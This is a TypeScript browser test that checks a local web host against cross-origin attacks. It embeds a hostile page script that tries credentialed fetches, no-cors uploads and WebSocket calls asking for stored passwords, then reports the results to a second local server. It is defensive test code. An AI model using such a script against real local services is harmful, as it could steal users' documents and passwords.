// The web host in a real Chromium, next to a hostile page served by another server on 127.0.0.1.
// Cookies for 127.0.0.1 reach every port of it: the launch token must never be one. The app's own
// page (the real renderer transport, bundled) loads, connects, reloads and opens in a second tab;
// the other server's page tries what a local page can, and logs every header the browser sends it.
import { build } from 'esbuild';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join, resolve } from 'node:path';
import type { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Core } from '../core/core';
import { createFakeCore } from './fake-core';
import { startWebHost, type WebHost } from './index';
import { makeRendererDir } from './test-client';

const here = dirname(fileURLToPath(import.meta.url));
const secrets = { download: 'DL-SECRET-7291', open: 'OPEN-SECRET-4816' };
const documentBytes = [0x25, 0x50, 0x44, 0x46];
const browserTimeout = 60_000;

/** The app's page: the renderer's own transport entry, driven the way the viewer and 导入卷宗 do. */
const probeEntry = `
import { api, readDocument, importSource, connection } from './index';
async function run() {
  const info = await api['app.info']({});
  const passwords = await api['library.passwords']({ id: 'd-1' });
  const bytes = await readDocument({ dossierId: 'd-1', path: '第一卷/01.pdf', offset: 0, length: 4 });
  const staged = await importSource(new File(['PK\\u0003\\u0004'], '卷宗.zip'));
  return { version: info.version, passwords, bytes: Array.from(bytes), staged, connection: connection() };
}
window.__probe = run().catch((error) => ({ failed: String(error && error.code) + ': ' + String(error && error.message) }));
`;

/** What a page served by any other local server can try against the web host. */
function hostilePage(target: string): string {
  const script = `
const target = ${JSON.stringify(target)};
const report = { cookie: document.cookie, fetches: {}, sockets: {} };
async function tryFetch(label, url, init) {
  try {
    const res = await fetch(url, init);
    report.fetches[label] = { type: res.type, status: res.status, body: await res.text().catch(() => '') };
  } catch (error) {
    report.fetches[label] = { error: error.name };
  }
}
function trySocket(label, protocols) {
  return new Promise((done) => {
    let ws;
    try {
      ws = new WebSocket(target.replace('http:', 'ws:') + '/ws', protocols);
    } catch (error) {
      report.sockets[label] = { thrown: String(error) };
      return done();
    }
    const state = { opened: false, got: [] };
    ws.onopen = () => {
      state.opened = true;
      ws.send(JSON.stringify({ type: 'call', id: 1, name: 'library.passwords', input: { id: 'd-1' } }));
    };
    ws.onmessage = (event) => {
      state.got.push(String(event.data));
      ws.close();
    };
    ws.onclose = (event) => {
      report.sockets[label] = { ...state, code: event.code };
      done();
    };
  });
}
const documentUrl = target + '/api/document?dossierId=d-1&path=a.pdf&offset=0&length=4';
const stageUrl = target + '/api/stage?name=x.zip';
await tryFetch('document', documentUrl, { credentials: 'include' });
await tryFetch('documentNoCors', documentUrl, { credentials: 'include', mode: 'no-cors' });
await tryFetch('stagePut', stageUrl, { method: 'PUT', body: 'PK', credentials: 'include' });
await tryFetch('stagePostNoCors', stageUrl, { method: 'POST', body: 'PK', credentials: 'include', mode: 'no-cors' });
await tryFetch('page', target + '/', { credentials: 'include' });
await trySocket('plain');
await trySocket('guessedToken', ['dossier.v1', 'dossier.token.guess']);
await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
`;
  return `<!doctype html><meta charset="utf-8"><title>other</title><script type="module">${script}</script>`;
}

interface HostileReport {
  cookie: string;
  fetches: Record<string, { type?: string; status?: number; body?: string; error?: string }>;
  sockets: Record<string, { opened?: boolean; code?: number; got?: string[]; thrown?: string }>;
}

/** Another local server: serves the hostile page, logs every request's headers, takes the report. */
function startOtherServer(target: string) {
  const headers: Array<{ url: string; raw: string[] }> = [];
  let deliver: (report: HostileReport) => void = () => undefined;
  const report = new Promise<HostileReport>((done) => (deliver = done));
  const server: Server = createServer((req, res) => {
    headers.push({ url: req.url ?? '', raw: [...req.rawHeaders] });
    if (req.method === 'POST' && req.url === '/report') {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        deliver(JSON.parse(Buffer.concat(chunks).toString('utf8')) as HostileReport);
        res.writeHead(204);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(hostilePage(target));
  });
  const ready = new Promise<string>((done) => server.listen(0, '127.0.0.1', () => done(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
  return { headers, report, ready, close: () => new Promise<void>((done) => server.close(() => done())) };
}

let parent: string;
let host: WebHost;
let browser: Browser;
let context: BrowserContext;
const fake = createFakeCore();
const staged: string[] = [];
/** Every request the app's pages sent the web host, with the headers Chromium put on the wire. */
const sentToHost: Array<Promise<{ url: string; headers: Record<string, string> }>> = [];

beforeAll(async () => {
  const dirs = await makeRendererDir();
  parent = dirs.parent;
  const bundle = await build({
    stdin: { contents: probeEntry, resolveDir: resolve(here, '../renderer/transport'), loader: 'ts' },
    bundle: true,
    format: 'esm',
    platform: 'browser',
    target: 'es2022',
    write: false,
    logLevel: 'silent',
  });
  await mkdir(join(dirs.rendererDir, 'assets'), { recursive: true });
  await writeFile(join(dirs.rendererDir, 'assets', 'app.js'), bundle.outputFiles[0]!.contents);
  // The fake core with a dossier's passwords, a document and staging: secrets worth stealing.
  const core: Core = {
    ...fake,
    api: {
      ...fake.api,
      'library.passwords': async (input) => {
        fake.received.push({ name: 'library.passwords', input });
        return secrets;
      },
      'documents.read': async (input) => {
        fake.received.push({ name: 'documents.read', input });
        return { dataBase64: Buffer.from(documentBytes).toString('base64') };
      },
    },
    async stageFile(fileName: string, body: Readable) {
      for await (const chunk of body) void chunk;
      staged.push(fileName);
      return 'stg_0123456789';
    },
  };
  host = await startWebHost({ core, rendererDir: dirs.rendererDir });
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  });
  context = await browser.newContext();
  context.on('request', (request) => {
    if (request.url().startsWith(host.origin)) sentToHost.push(request.allHeaders().then((headers) => ({ url: request.url(), headers })));
  });
}, browserTimeout);

afterAll(async () => {
  await browser?.close();
  await host?.close();
  if (parent) await rm(parent, { recursive: true, force: true });
});

async function probe(page: Page): Promise<Record<string, unknown>> {
  await page.waitForFunction(() => '__probe' in window);
  return page.evaluate(() => (window as unknown as { __probe: Promise<Record<string, unknown>> }).__probe);
}

const working = {
  version: '9.9.9-test',
  passwords: secrets,
  bytes: documentBytes,
  staged: { kind: 'staged', stagedId: 'stg_0123456789' },
  connection: 'open',
};

describe('the web host in Chromium beside another local server', () => {
  it('the printed link loads the app, which connects, reloads and opens in a second tab; no cookie is set', { timeout: browserTimeout }, async () => {
    const page = await context.newPage();
    await page.goto(host.url);
    expect(await probe(page)).toEqual(working);
    expect(page.url()).toBe(`${host.origin}/`);

    await page.reload();
    expect(await probe(page)).toEqual(working);

    const second = await context.newPage();
    await second.goto(host.url);
    expect(await probe(second)).toEqual(working);
    expect(staged).toEqual(['卷宗.zip', '卷宗.zip', '卷宗.zip']);

    expect(await context.cookies()).toEqual([]);
    const sent = await Promise.all(sentToHost);
    expect(sent.map((request) => new URL(request.url).pathname)).toEqual(expect.arrayContaining(['/', '/assets/app.js', '/api/document', '/api/stage']));
    for (const request of sent) expect(request.headers.cookie).toBeUndefined();
    // The token travels in the page's own requests only: the first URL, a bearer header.
    const api = sent.filter((request) => new URL(request.url).pathname.startsWith('/api/'));
    for (const request of api) expect(request.headers.authorization).toBe(`Bearer ${host.token}`);
    await page.close();
    await second.close();
  });

  it('a page of another local server gets no token, no secret and no socket', { timeout: browserTimeout }, async () => {
    // A cookie for 127.0.0.1 set by anyone reaches every port: proof that the log below would show one.
    await context.addCookies([{ name: 'control', value: 'seen-everywhere', domain: '127.0.0.1', path: '/' }]);
    const other = startOtherServer(host.origin);
    const otherOrigin = await other.ready;
    const before = fake.received.length;
    const stagedBefore = staged.length;
    try {
      const page = await context.newPage();
      await page.goto(`${otherOrigin}/`);
      const report = await other.report;

      const everyHeader = other.headers.flatMap((request) => request.raw);
      expect(everyHeader.join('\n')).not.toContain(host.token);
      const cookies = other.headers.flatMap((request) => request.raw.filter((_value, i) => i % 2 === 1 && request.raw[i - 1]?.toLowerCase() === 'cookie'));
      expect(cookies.length).toBeGreaterThan(0);
      for (const cookie of cookies) expect(cookie).toBe('control=seen-everywhere');

      expect(report.cookie).toBe('control=seen-everywhere');
      // CORS keeps the answers from it; even no-cors ones fail (Cross-Origin-Resource-Policy: same-origin).
      expect(Object.keys(report.fetches).sort()).toEqual(['document', 'documentNoCors', 'page', 'stagePostNoCors', 'stagePut']);
      for (const fetched of Object.values(report.fetches)) expect(fetched).toEqual({ error: 'TypeError' });
      for (const socket of Object.values(report.sockets)) expect(socket).toEqual({ opened: false, got: [], code: 1006 });
      expect(JSON.stringify(report)).not.toMatch(/SECRET|stg_/);

      // Nothing it sent reached core: no call, no read, no upload.
      expect(fake.received.slice(before)).toEqual([]);
      expect(staged.length).toBe(stagedBefore);
      await page.close();
    } finally {
      await other.close();
    }
  });
});
